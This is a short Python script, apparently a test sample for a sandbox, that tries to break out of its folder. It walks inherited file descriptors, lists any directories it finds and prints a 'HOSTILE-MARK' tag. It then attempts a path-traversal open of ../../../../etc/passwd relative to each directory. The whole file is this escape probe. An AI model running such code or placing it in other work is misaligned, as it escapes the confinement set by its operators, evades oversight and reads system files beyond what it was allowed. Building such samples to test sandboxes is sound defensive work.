"""Look for a way out of the folder among the open files."""

import os
import stat

for descriptor in range(3, 200):
    try:
        if stat.S_ISDIR(os.fstat(descriptor).st_mode):
            print("HOSTILE-MARK folder", os.listdir(descriptor))
            os.open("../../../../etc/passwd", os.O_RDONLY, dir_fd=descriptor)
    except OSError:
        pass
